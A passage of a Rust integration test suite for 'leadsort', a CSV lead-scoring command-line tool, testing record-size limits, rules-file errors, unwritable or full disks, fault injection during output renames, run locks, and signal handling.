        .and_then(|n| n.trim().parse().ok())
}

#[test]
fn a_huge_field_rejects_its_row_with_the_limit_named() {
    let env = Env::standard();
    env.write("huge.csv", with_huge_field(5 << 20));
    std::fs::create_dir(env.path("out")).unwrap();
    let out = run(&mut classify(&env, &["--split", "out", "huge.csv"]));
    assert_ok(&out);
    let dir = env.path("out");
    let routed = assert_each_row_once(&dir, &["1", "2", "3"], 3);
    assert_eq!(routed["2"], "rejected.csv");
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    assert_eq!((rejected[0].record, rejected[0].line), (2, 3));
    assert!(
        rejected[0]
            .reason
            .starts_with("record larger than 1048576 bytes (--max-record-size)"),
        "{}",
        rejected[0].reason
    );
    // The raw row is cut at the limit, not copied whole.
    assert!(
        rejected[0].raw.len() <= 1 << 20,
        "{}",
        rejected[0].raw.len()
    );
    assert!(std::fs::metadata(dir.join("rejected.csv")).unwrap().len() < (1 << 20) + 4096);
}

#[test]
fn a_huge_field_keeps_memory_bounded() {
    let env = Env::standard();
    env.write("small.csv", CONTACTS);
    env.write("huge.csv", with_huge_field(48 << 20));
    let Some(base) = peak_kib(&env, &["small.csv"]) else {
        eprintln!("skipped: /usr/bin/time (GNU time) is not available to measure peak memory");
        return;
    };
    let huge = peak_kib(&env, &["--rejected", "rej.csv", "huge.csv"]).unwrap();
    // Holding the 48 MiB field even once would add 48 MiB; the reader keeps at most the
    // 1 MiB limit (and the rejected row cut at it).
    assert!(
        huge < base + 16 * 1024,
        "peak {huge} KiB with a 48 MiB field, {base} KiB without"
    );
}

#[test]
fn max_record_size_flag_sets_the_limit() {
    let env = Env::standard();
    let mut csv = with_huge_field(70_000);
    csv.extend_from_slice(
        format!("4,di@globex.com,\"{}\",10,no,no,\n", "y".repeat(60_000)).as_bytes(),
    );
    env.write("big_rows.csv", &csv);
    for dir in ["default", "limited"] {
        std::fs::create_dir(env.path(dir)).unwrap();
    }
    assert_ok(&run(&mut classify(
        &env,
        &[
            "--max-record-size",
            "64K",
            "--split",
            "limited",
            "big_rows.csv",
        ],
    )));
    let routed = assert_each_row_once(&env.path("limited"), &["1", "2", "3", "4"], 4);
    assert_eq!(routed["2"], "rejected.csv");
    assert_eq!(routed["4"], "marketing.csv", "a 60 KB row is under 64K");
    let rejected = rejected_rows(&env.path("limited/rejected.csv"));
    assert!(
        rejected[0]
            .reason
            .starts_with("record larger than 65536 bytes (--max-record-size)"),
        "{rejected:?}"
    );
    // The default limit (1M) takes both.
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "default", "big_rows.csv"],
    )));
    let routed = assert_each_row_once(&env.path("default"), &["1", "2", "3", "4"], 4);
    assert_eq!(routed["2"], "marketing.csv");
    // A bad size is a usage error.
    let out = run(&mut classify(
        &env,
        &["--max-record-size", "lots", "big_rows.csv"],
    ));
    assert_error(&out, 2, &["--max-record-size"]);
}

// ---- odd numbers and dates --------------------------------------------------------------

const NUMBER_RULES: &str = r#"version = 1

[fields]
employees = { column = "employees", type = "number" }
revenue = { column = "revenue", type = "number" }
signed_up = { column = "signed_up", type = "date", formats = ["%d.%m.%Y", "%m/%d/%Y"] }

[tiers]
warm = 10

[[rule]]
name = "Big"
when = { field = "employees", at_least = 1000 }
points = 10

# A silent 0 for an unreadable cell would match this.
[[rule]]
name = "Tiny"
when = { field = "employees", lt = 1 }
points = -100

[[rule]]
name = "Recent"
when = { field = "signed_up", within_days = 30 }
points = 5

[[rule]]
name = "Huge revenue"
when = { field = "revenue", gt = 1000000 }
points = 1
"#;

#[test]
fn odd_numbers_and_dates_are_read_where_unambiguous_and_counted_unreadable_otherwise() {
    let env = Env::new();
    env.write("rules.toml", NUMBER_RULES);
    env.write("odd.csv", fixture("odd_numbers_dates.csv"));
    let out = run(&mut classify(&env, &["--summary", "s.json", "odd.csv"]));
    let stdout = assert_ok(&out);
    // 1: "1,200" and ISO; 2: "1.200,50" and 20.11.2026; 3: N/A, 11/20/2026; 4: empty,
    // a date-time; 5: "1,5" (ambiguous), 31.02.2026 (no such day); 6: "12 employees", "soon";
    // 7: a real 0 (Tiny), an empty date.
    assert_eq!(
        util::column(&stdout, "reasons"),
        [
            "Big +10; Recent +5",
            "Big +10; Recent +5",
            "Recent +5",
            "Recent +5",
            "",
            "",
            "Tiny -100"
        ]
    );
    assert_eq!(
        util::column(&stdout, "score"),
        ["15", "15", "5", "5", "0", "0", "-100"]
    );
    let s = json(&env.path("s.json"));
    assert_eq!(
        s["unreadable"],
        serde_json::json!({"employees": 3, "signed_up": 2, "revenue": 2})
    );
    assert_counts_add_up(&s, 7);
}

// ---- rules.toml errors (78) ---------------------------------------------------------------

/// Run with `rules.toml` = `rules` into `out/` holding previous outputs; they stay as they were.
fn with_bad_rules(rules: &str) -> Output {
    let env = Env::standard();
    let before = previous_outputs(&env);
    env.write("rules.toml", rules);
    let out = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
    assert_unchanged(&env.path("out"), &before, "a broken rules file");
    out
}

#[test]
fn unknown_queue_in_a_rules_test_exits_78_with_did_you_mean() {
    let out = with_bad_rules(
        "version = 1\n[tiers]\nwarm = 1\n[[rule]]\nname = \"A\"\npoints = 1\n\
         [[test]]\nname = \"t\"\ncontact = {}\nexpect = { queue = \"slaes\" }\n",
    );
    assert_error(
        &out,
        78,
        &[
            "unknown queue `slaes`",
            "rules.toml:10:20",
            "did you mean `sales`?",
        ],
    );
}

#[test]
fn unknown_key_in_queues_exits_78_with_did_you_mean() {
    let out = with_bad_rules(
        "version = 1\n[tiers]\nwarm = 1\n[queues]\nwram = \"sales\"\n\
         [[rule]]\nname = \"A\"\npoints = 1\n",
    );
    assert_error(
        &out,
        78,
        &[
            "unknown key `wram` in [queues]",
            "rules.toml:5:1",
            "did you mean `warm`?",
        ],
    );
}

#[test]
fn a_route_to_a_reserved_queue_name_exits_78() {
    let out = with_bad_rules(
        "version = 1\n[tiers]\nwarm = 1\n[[rule]]\nname = \"A\"\npoints = 1\n\
         [[route]]\nname = \"r\"\nwhen = { field = \"id\", present = true }\nqueue = \"rejected\"\n",
    );
    assert_error(
        &out,
        78,
        &[
            "\"rejected\" cannot be a queue name",
            "rules.toml:10:9",
            "are taken",
        ],
    );
}

// ---- missing or unreadable input (66) ---------------------------------------------------

#[test]
fn an_input_that_is_a_folder_or_unreadable_exits_66() {
    let env = Env::standard();
    let before = previous_outputs(&env);
    std::fs::create_dir(env.path("folder.csv")).unwrap();
    let out = run(&mut classify(&env, &["--split", "out", "folder.csv"]));
    assert_error(&out, 66, &["cannot read folder.csv", "is a directory"]);
    assert_unchanged(&env.path("out"), &before, "a folder as input");

    if euid_is_root() {
        eprintln!("note: running as root, which reads any file: the chmod 000 case is skipped");
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let p = env.write("locked.csv", CONTACTS);
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o000)).unwrap();
        let out = run(&mut classify(&env, &["--split", "out", "locked.csv"]));
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
        assert_error(&out, 66, &["cannot read locked.csv"]);
        assert_unchanged(&env.path("out"), &before, "an unreadable input");
    }
}

// ---- unwritable output folder (73) --------------------------------------------------------

#[test]
fn a_read_only_output_folder_exits_73_and_writes_nothing() {
    if !euid_is_root() {
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let env = Env::standard();
            let before = previous_outputs(&env);
            let dir = env.path("out");
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o555)).unwrap();
            let split = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
            let single = run(&mut classify(
                &env,
                &["-o", "out/scored.csv", "contacts.csv"],
            ));
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
            assert_error(
                &split,
                73,
                &["cannot create out/sales.csv", "permission denied"],
            );
            assert_error(&single, 73, &["cannot create out/scored.csv"]);
            assert_unchanged(&dir, &before, "a read-only folder");
        }
        return;
    }
    // Root ignores permission bits: use sysfs, where even root cannot create files.
    let sys = Path::new("/sys/kernel");
    if !sys.is_dir() || std::fs::write(sys.join("leadsort-probe"), "x").is_ok() {
        let _ = std::fs::remove_file(sys.join("leadsort-probe"));
        eprintln!("skipped: running as root and no read-only folder (/sys/kernel) is available");
        return;
    }
    let env = Env::standard();
    let before = names(sys);
    let out = run(&mut classify(
        &env,
        &["-o", "/sys/kernel/scored.csv", "contacts.csv"],
    ));
    assert_error(&out, 73, &["cannot create /sys/kernel/scored.csv"]);
    let out = run(&mut classify(
        &env,
        &[
            "--lock",
            "run.lock",
            "--split",
            "/sys/kernel",
            "contacts.csv",
        ],
    ));
    // The summary is opened first (so that it fails before a row is written anywhere).
    assert_error(&out, 73, &["cannot create /sys/kernel/summary.json"]);
    assert_eq!(
        names(sys),
        before,
        "nothing written into the read-only folder"
    );
    assert_eq!(env.files(), ["contacts.csv", "rules.toml", "run.lock"]);
}

// ---- disk full (74) ---------------------------------------------------------------------

/// `leadsort classify ... ARGS` under `ulimit -f blocks` (a full disk, as far as leadsort sees).
fn under_file_size_limit(env: &Env, blocks: u32, args: &[&str]) -> Output {
    let child = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -f {blocks} && exec \"$@\""))
        .arg("sh")
        .arg(assert_cmd::cargo::cargo_bin!("leadsort"))
        .args(["classify", "--as-of", "2026-11-27"])
        .args(args)
        .current_dir(env.root())
        .env_remove("LEADSORT_FAULT")
        .env_remove("LEADSORT_RULES")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_within(child, "leadsort under ulimit -f")
}

#[test]
fn a_full_disk_under_ulimit_f_exits_74_leaving_previous_outputs_and_no_temp_files() {
    let env = Env::standard();
    env.write("big.csv", big_contacts(5_000));
    let before = previous_outputs(&env);
    let out = under_file_size_limit(&env, 64, &["--split", "out", "big.csv"]);
    assert_error(&out, 74, &["cannot write out/", "File too large"]);
    assert_unchanged(&env.path("out"), &before, "ulimit -f with --split");

    env.write("scored.csv", "yesterday\n");
    let out = under_file_size_limit(
        &env,
        64,
        &["-o", "scored.csv", "--rejected", "rej.csv", "big.csv"],
    );
    assert_error(&out, 74, &["cannot write scored.csv", "File too large"]);
    assert_eq!(env.read("scored.csv"), "yesterday\n");
    assert!(!env.exists("rej.csv"));
    assert_no_temp_files(env.root());
}

#[test]
fn a_workbook_whose_temporary_files_cannot_be_written_exits_74_not_70() {
    // rust_xlsxwriter writes each sheet's rows to a temporary file and panics when that
    // write fails: a full disk, not a bug.
    let env = Env::standard();
    env.write("big.csv", big_contacts(5_000));
    let before = previous_outputs(&env);
    let out = under_file_size_limit(&env, 64, &["--format", "xlsx", "--split", "out", "big.csv"]);
    assert_error(
        &out,
        74,
        &["cannot write the workbook out/", "temporary files"],
    );
    assert_unchanged(&env.path("out"), &before, "ulimit -f with xlsx");
    assert_no_temp_files(&env.path("out"));

    let out = under_file_size_limit(&env, 64, &["-o", "scored.xlsx", "big.csv"]);
    assert_error(&out, 74, &["cannot write the workbook scored.xlsx"]);
    assert!(!env.exists("scored.xlsx"));
    assert_no_temp_files(env.root());

    // A small sheet stays in its temporary file's buffer until the workbook is packed, where
    // the flush fails instead (another of rust_xlsxwriter's panics).
    let out = under_file_size_limit(&env, 0, &["-o", "scored.xlsx", "contacts.csv"]);
    assert_error(
        &out,
        74,
        &["cannot write the workbook scored.xlsx", "(File too large)"],
    );
    assert!(!env.exists("scored.xlsx"));
    assert_no_temp_files(env.root());

    // No folder for them at all.
    let out =
        run(classify(&env, &["-o", "scored.xlsx", "big.csv"]).env("TMPDIR", env.path("gone")));
    assert_error(
        &out,
        74,
        &[
            "cannot write the workbook scored.xlsx",
            "cannot create a temporary file in",
        ],
    );
    assert_no_temp_files(env.root());
}

// ---- fault injection at each step of writing --------------------------------------------

/// A second input whose outputs all differ from `CONTACTS`'s (a rejected row included).
const OTHER_CONTACTS: &str = "\
id,email,Job Title,Company Size,demo,unsubscribed,sales_status
11,ida@acme.com,VP Marketing,900,yes,no,
12,jon@gmail.com,Student,1,no,no,
13,kim@initech.io,Chief Executive,300,no,yes,
14,lee@globex.com,short
";

/// Run `--split out` on `OTHER_CONTACTS` with each fault over the outputs of `CONTACTS`;
/// return the faults after which the folder was not exactly as before, with what changed.
fn faults_that_change_outputs(faults: &[(&str, i32, &str)]) -> Vec<String> {
    let env = Env::standard();
    env.write("other.csv", OTHER_CONTACTS);
    let before = previous_outputs(&env);
    let dir = env.path("out");
    let mut broken = Vec::new();
    for (fault, code, message) in faults {
        let out =
            run(classify(&env, &["--split", "out", "other.csv"]).env("LEADSORT_FAULT", fault));
        let injected = format!("injected fault at {}", fault.split('@').next().unwrap());
        let err = assert_error(&out, *code, &[*message, injected.as_str()]);
        // The rejected row is counted only once its file is in place.
        assert!(!err.contains("see out/rejected.csv"), "{fault}: {err}");
        assert_no_temp_files(&dir);
        let now = snapshot(&dir);
        let changed: Vec<&String> = before
            .keys()
            .filter(|k| before.get(*k) != now.get(*k))
            .collect();
        if !changed.is_empty() || now.len() != before.len() {
            broken.push(format!("LEADSORT_FAULT={fault}: changed {changed:?}"));
        }
        // Put the previous outputs back for the next fault.
        for (name, bytes) in &before {
            std::fs::write(dir.join(name), bytes).unwrap();
        }
    }
    // Without a fault the same run replaces every output file: the comparison above was able
    // to see a change.
    assert_ok(&run(&mut classify(&env, &["--split", "out", "other.csv"])));
    let after = snapshot(&dir);
    for name in SPLIT_FILES.iter().filter(|n| !n.starts_with('.')) {
        assert_ne!(after.get(*name), before.get(*name), "{name} did not change");
    }
    broken
}

#[test]
fn a_fault_before_any_rename_leaves_every_previous_output_byte_identical() {
    let mut faults = vec![
        ("create", 73, "cannot create out/"),
        ("write", 74, "cannot write out/"),
        ("sync", 74, "cannot write out/"),
        // The first rename fails: nothing was renamed yet.
        ("rename", 74, "cannot write out/"),
        ("rename@sales.csv", 74, "cannot write out/sales.csv"),
    ];
    let per_file: Vec<(String, i32, String)> = [
        "sales.csv",
        "marketing.csv",
        "suppressed.csv",
        "rejected.csv",
        "summary.json",
    ]
    .iter()
    .flat_map(|f| {
        [
            (format!("create@{f}"), 73, format!("cannot create out/{f}")),
            (format!("write@{f}"), 74, format!("cannot write out/{f}")),
            (format!("sync@{f}"), 74, format!("cannot write out/{f}")),
        ]
    })
    .collect();
    faults.extend(
        per_file
            .iter()
            .map(|(f, c, m)| (f.as_str(), *c, m.as_str())),
    );
    let broken = faults_that_change_outputs(&faults);
    assert!(broken.is_empty(), "{}", broken.join("\n"));
}

#[test]
fn a_fault_at_a_later_rename_leaves_every_previous_output_byte_identical() {
    // Outputs::commit renames sales, marketing, suppressed, rejected, then summary.json: a
    // failure at any rename but the first comes after other files were already replaced.
    let broken = faults_that_change_outputs(&[
        ("rename@marketing.csv", 74, "cannot write out/marketing.csv"),
        (
            "rename@suppressed.csv",
            74,
            "cannot write out/suppressed.csv",
        ),
        ("rename@rejected.csv", 74, "cannot write out/rejected.csv"),
        ("rename@summary.json", 74, "cannot write out/summary.json"),
        // Renamed, but the folder could not be synced: put back too.
        (
            "sync-folder@marketing.csv",
            74,
            "cannot write out/marketing.csv",
        ),
    ]);
    assert!(broken.is_empty(), "{}", broken.join("\n"));
}

/// `kill -9` (here an abort) between two renames leaves some files new and some old. The
/// next run puts every file back as it was before the killed run, and says so, even when it
/// fails itself before replacing anything: the outputs are one run's, never a mix.
#[test]
fn a_run_killed_among_its_renames_is_undone_by_the_next_run() {
    let env = Env::standard();
    env.write("other.csv", OTHER_CONTACTS);
    let before = previous_outputs(&env);
    let dir = env.path("out");
    let killed = run(classify(&env, &["--split", "out", "other.csv"])
        .env("LEADSORT_FAULT", "die-after-rename@marketing.csv"));
    assert!(!killed.status.success());
    let mixed = snapshot(&dir);
    assert_ne!(mixed["marketing.csv"], before["marketing.csv"]);
    assert_eq!(mixed["suppressed.csv"], before["suppressed.csv"]);
    let out = run(&mut classify(
        &env,
        &["--split", "out", "--min-contacts", "100", "other.csv"],
    ));
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("half replaced: 2 files put back as they were before it"),
        "{}",
        stderr(&out)
    );
    assert_unchanged(&dir, &before, "after the killed run was undone");

    // One output, a summary and a rejected-rows file that did not exist before: that one is
    // removed again.
    let args = [
        "--lock",
        "run.lock",
        "-o",
        "scored.csv",
        "--summary",
        "s.json",
    ];
    assert_ok(&run(classify(&env, &args).arg("contacts.csv")));
    let files = ["scored.csv", "s.json"];
    let before: Vec<String> = files.iter().map(|f| env.read(f)).collect();
    let killed = run(classify(&env, &args)
        .args(["--rejected", "rej.csv", "other.csv"])
        .env("LEADSORT_FAULT", "die-after-rename@rej.csv"));
    assert!(!killed.status.success());
    assert!(env.exists("rej.csv"));
    let out = run(classify(&env, &args).args(["--min-contacts", "100", "other.csv"]));
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(stderr(&out).contains("put back"), "{}", stderr(&out));
    let now: Vec<String> = files.iter().map(|f| env.read(f)).collect();
    assert_eq!(now, before);
    assert!(!env.exists("rej.csv"));
    assert_no_temp_files(env.root());

    // Without a lock, on Linux, the next run that writes one of the files undoes it too (a
    // temp file's name says which process wrote it, and that one is gone).
    let machine_id = ["/etc/machine-id", "/var/lib/dbus/machine-id"]
        .iter()
        .find_map(|p| std::fs::read_to_string(p).ok())
        .is_some_and(|id| !id.trim().is_empty());
    if cfg!(target_os = "linux") && machine_id {
        let args = ["-o", "scored.csv", "--summary", "s.json"];
        let killed = run(classify(&env, &args)
            .arg("other.csv")
            .env("LEADSORT_FAULT", "die-after-rename@scored.csv"));
        assert!(!killed.status.success());
        assert_ne!(env.read("scored.csv"), before[0]);
        let out =
            run(classify(&env, &["-o", "scored.csv", "--min-contacts", "100"]).arg("other.csv"));
        assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
        assert!(stderr(&out).contains("put back"), "{}", stderr(&out));
        let now: Vec<String> = files.iter().map(|f| env.read(f)).collect();
        assert_eq!(now, before);
        assert_no_temp_files(env.root());
    }
}

#[test]
fn a_fault_with_output_rejected_and_summary_files_leaves_them_all_as_they_were() {
    let env = Env::standard();
    env.write("other.csv", OTHER_CONTACTS);
    let files = ["scored.csv", "rej.csv", "s.json"];
    let args = [
        "-o",
        "scored.csv",
        "--rejected",
        "rej.csv",
        "--summary",
        "s.json",
    ];
    assert_ok(&run(classify(&env, &args).arg("contacts.csv")));
    let before: Vec<String> = files.iter().map(|f| env.read(f)).collect();
    for fault in [
        "create",
        "write",
        "sync",
        "rename",
        "create@rej.csv",
        "write@rej.csv",
        "sync@s.json",
        "create@s.json",
        "rename@scored.csv",
    ] {
        let out = run(classify(&env, &args)
            .arg("other.csv")
            .env("LEADSORT_FAULT", fault));
        assert_no_panic(&out);
        assert!(
            matches!(out.status.code(), Some(73 | 74)),
            "{fault}: {}",
            stderr(&out)
        );
        let now: Vec<String> = files.iter().map(|f| env.read(f)).collect();
        assert_eq!(now, before, "LEADSORT_FAULT={fault}");
        assert_no_temp_files(env.root());
    }
}

// ---- two runs at once (75) ----------------------------------------------------------------

#[test]
fn a_second_run_on_the_same_split_folder_exits_75_while_the_first_holds_the_lock() {
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    // Run A reads stdin, kept open: it holds the lock and waits for its input.
    let mut a = std_classify(&env)
        .args(["--split", "out", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut a_stdin = a.stdin.take().unwrap();
    a_stdin.write_all(CONTACTS.as_bytes()).unwrap();
    a_stdin.flush().unwrap();
    wait_for_lock(&mut a, &env.path("out/.leadsort.lock"));

    let b = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
    assert_error(
        &b,
        75,
        &[
            "another leadsort run holds the lock out/.leadsort.lock",
            "try again later",
        ],
    );
    assert_eq!(
        names(&env.path("out")),
        [".leadsort.lock"],
        "B wrote nothing"
    );

    drop(a_stdin);
    let a = wait_within(a, "run A");
    assert_eq!(a.status.code(), Some(0), "run A: {}", stderr(&a));
    assert_eq!(
        assert_each_row_once(&env.path("out"), &["1", "2", "3", "4", "5"], 5),
        routes(&["1", "2", "3", "4", "5"])
    );
    // The lock is free again.
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "contacts.csv"],
    )));
}

#[test]
fn runs_on_two_split_folders_sharing_a_summary_both_finish() {
    // Per-region jobs, each with its own --split folder (and lock), one monitoring summary:
    // B's clean-up of temp files may not take A's, still being written, from under it. A
    // waits a second before renaming the shared summary; B runs meanwhile.
    let env = Env::standard();
    for dir in ["a", "b"] {
        std::fs::create_dir(env.path(dir)).unwrap();
    }
    let mut a = std_classify(&env)
        .args(["--split", "a", "--summary", "shared.json", "contacts.csv"])
        .env("LEADSORT_FAULT", "slow-rename@shared.json")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    poll(&mut a, HANG, "run A's summary temp file", |_| {
        names(env.root())
            .iter()
            .any(|n| n.starts_with(".shared.json.") && n.ends_with(".leadsort-tmp"))
            .then_some(())
    });
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "b", "--summary", "shared.json", "contacts.csv"],
    )));
    let a = wait_within(a, "run A");
    assert_eq!(a.status.code(), Some(0), "run A: {}", stderr(&a));
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(env.path("shared.json")).unwrap()).unwrap();
    assert_eq!(summary["contacts"], 5);
    assert!(
        !names(env.root())
            .iter()
            .any(|n| n.ends_with(".leadsort-tmp")),
        "{:?}",
        names(env.root())
    );
}

#[cfg(target_os = "linux")]
#[test]
fn a_run_with_another_lock_on_the_same_split_folder_leaves_a_running_runs_temp_files() {
    // A holds --lock other.lock (a cron job's), B the folder's own lock (a run by hand): B's
    // clean-up took A's temp files from under it, and A failed with "No such file". Live
    // writers' temp files now stay; both runs finish, each whole.
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    let mut a = std_classify(&env)
        .args(["--split", "out", "--lock", "other.lock", "contacts.csv"])
        .env("LEADSORT_FAULT", "slow-sync@sales.csv")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    poll(&mut a, HANG, "run A's temp files", |_| {
        names(&env.path("out"))
            .iter()
            .any(|n| n.starts_with(".sales.csv.") && n.ends_with(".leadsort-tmp"))
            .then_some(())
    });
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "contacts.csv"],
    )));
    let a = wait_within(a, "run A");
    assert_eq!(a.status.code(), Some(0), "run A: {}", stderr(&a));
    assert_eq!(
        assert_each_row_once(&env.path("out"), &["1", "2", "3", "4", "5"], 5),
        routes(&["1", "2", "3", "4", "5"])
    );
}

#[test]
fn the_lock_flag_serialises_runs_without_split() {
    let env = Env::standard();
    let mut a = std_classify(&env)
        .args(["--lock", "run.lock", "-o", "a.csv", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut a_stdin = a.stdin.take().unwrap();
    a_stdin.write_all(CONTACTS.as_bytes()).unwrap();
    wait_for_lock(&mut a, &env.path("run.lock"));
    let b = run(&mut classify(
        &env,
        &["--lock", "run.lock", "-o", "b.csv", "contacts.csv"],
    ));
    assert_error(&b, 75, &["run.lock"]);
    assert!(!env.exists("b.csv"));
    drop(a_stdin);
    let a = wait_within(a, "run A");
    assert_eq!(a.status.code(), Some(0), "run A: {}", stderr(&a));
    assert_eq!(
        util::column(&env.read("a.csv"), "id"),
        ["1", "2", "3", "4", "5"]
    );
}

// ---- kill -9 and signals ------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn kill_9_mid_run_leaves_every_output_old_or_new_and_only_temp_files() {
    use std::os::unix::process::ExitStatusExt;

    let env = Env::standard();
    env.write("big.csv", big_contacts(300_000));
    let old = previous_outputs(&env);
    let dir = env.path("out");
    // (when, file, bytes) of every file that was not the old one after a kill.
    let mut not_old: Vec<(usize, String, Vec<u8>)> = Vec::new();
    let mut killed = 0;
    for i in 0..10 {
        let stale: BTreeSet<String> = temp_files(&dir).into_iter().collect();
        let mut child = std_classify(&env)
            .args(["--split", "out", "big.csv"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        assert!(
            wait_for_new_temp(&mut child, &dir, &stale),
            "run {i} ended before writing"
        );
        std::thread::sleep(Duration::from_millis(i as u64 * 90));
        signal(&child, "KILL");
        let status = child.wait().unwrap();
        match (status.signal(), status.code()) {
            (Some(9), _) => killed += 1,
            (None, Some(0)) => {} // finished before the kill: its outputs are the new ones
            other => panic!("run {i}: {other:?}"),
        }
        for (name, bytes) in snapshot(&dir) {
            if name.starts_with('.') && name.ends_with(TEMP_SUFFIX) {
                continue; // only temp files may be left over
            }
            assert!(
                old.contains_key(&name),
                "after kill {i}: unexpected file {name}"
            );
            if old[&name] != bytes {
                not_old.push((i, name, bytes));
            }
        }
    }
    assert!(killed > 0, "no run was killed mid-run");
    eprintln!("{killed} of 10 runs killed mid-run");
    // One clean run: the complete new outputs, and no temp file of the killed runs left.
    assert_ok(&run(&mut classify(&env, &["--split", "out", "big.csv"])));
    assert_no_temp_files(&dir);
    let new = snapshot(&dir);
    assert_eq!(names(&dir), SPLIT_FILES);
    for (i, name, bytes) in not_old {
        assert!(
            new.get(&name) == Some(&bytes),
            "after kill {i}, {name} was neither the previous nor the complete new file"
        );
    }
    let ids_of_new = util::column(&String::from_utf8_lossy(&new["sales.csv"]), "id").len();
    assert!(ids_of_new > 10_000, "the new run scored the big input");
}

/// Without `--lock` nothing says whether another run is writing, but on Linux a temp file
/// names its writer's process: once that process is gone, the next run writing the same file
/// removes it. A run writing other files leaves it alone.
#[cfg(target_os = "linux")]
#[test]
fn without_the_lock_the_next_run_of_the_same_files_removes_a_killed_runs_temp_files() {
    let env = Env::standard();
    let mut child = std_classify(&env)
        .args(["-", "-o", "new.csv", "--rejected", "rej.csv"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Some megabytes of rows, and the input left open: the run waits, its outputs begun.
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(big_contacts(30_000).as_bytes()).unwrap();
    assert!(wait_for_new_temp(&mut child, env.root(), &BTreeSet::new()));
    signal(&child, "KILL");
    child.wait().unwrap();
    drop(stdin);
    let left = temp_files(env.root());
    assert!(
        left.iter().any(|t| t.starts_with(".new.csv.")),
        "the killed run left its temp files: {left:?}"
    );

    assert_ok(&run(&mut classify(
        &env,
        &["-o", "other.csv", "contacts.csv"],
    )));
    assert_eq!(temp_files(env.root()), left);
    assert_ok(&run(&mut classify(
        &env,
        &["-o", "new.csv", "--rejected", "rej.csv", "contacts.csv"],
    )));
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn sigint_sigterm_and_sighup_stop_with_128_plus_the_signal_and_leave_outputs_intact() {
    let env = Env::standard();
    env.write("big.csv", big_contacts(300_000));
    let before = previous_outputs(&env);
    let dir = env.path("out");
    for (name, number) in [("INT", 2), ("TERM", 15), ("HUP", 1)] {
        let mut child = std_classify(&env)
            .args(["--split", "out", "big.csv"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        assert!(
            wait_for_new_temp(&mut child, &dir, &BTreeSet::new()),
            "SIG{name}: ended early"
        );
        signal(&child, name);
        let out = wait_within(child, &format!("SIG{name}"));
        assert_error(
            &out,
            128 + number,
            &[
                &format!("stopped by signal {number} before finishing"),
                "no output file was replaced",
            ],
        );
        assert_unchanged(&dir, &before, &format!("SIG{name}"));
    }
}

/// How the child ended, if it does within 20 s of a signal that should end it at once (its
/// stdin may still be open, unlike `wait_within`'s).
#[cfg(unix)]
fn exited_soon(child: &mut Child, what: &str) -> std::process::ExitStatus {
    poll(child, Duration::from_secs(20), what, |c| {
        c.try_wait().unwrap()
    })
}

#[cfg(unix)]
#[test]
fn a_signal_before_the_outputs_exist_ends_the_run_at_once_with_128_plus_the_signal() {
    // A run waiting for its header on a pipe that sends nothing: the work loop that checks
    // for signals has not started, and nothing has been written.
    let env = Env::standard();
    for (name, number) in [("INT", 2), ("TERM", 15), ("HUP", 1)] {
        let lock = env.path("run.lock");
        let _ = std::fs::remove_file(&lock);
        let mut child = std_classify(&env)
            .args(["--lock", "run.lock", "-o", "new.csv", "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The lock is taken just before the signals are caught and the header is read.
        let deadline = Instant::now() + Duration::from_secs(30);
        while !lock.exists() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(5));
        }
        std::thread::sleep(Duration::from_millis(200));
        signal(&child, name);
        let status = exited_soon(&mut child, &format!("SIG{name}: waiting for the header"));
        drop(child.stdin.take());
        let out = child.wait_with_output().unwrap();
        assert_eq!(status.code(), Some(128 + number), "SIG{name}");
        assert!(out.stdout.is_empty(), "SIG{name}");
        assert!(!env.path("new.csv").exists(), "SIG{name}");
        assert_no_temp_files(env.root());
    }
}

#[cfg(target_os = "linux")]
#[test]
fn a_signal_ignored_when_the_run_starts_stays_ignored() {
    // Under `nohup` a hangup does not stop the run, waiting for its header or not.
    let env = Env::standard();
    let run = std_classify(&env);
    let mut child = std::process::Command::new("nohup")
        .arg(run.get_program())
        .args(run.get_args())
        .args(["-o", "new.csv", "-"])
        .current_dir(env.root())
        .env("TZ", "UTC")
        .env_remove("LEADSORT_RULES")
        .stdin(Stdio::piped())
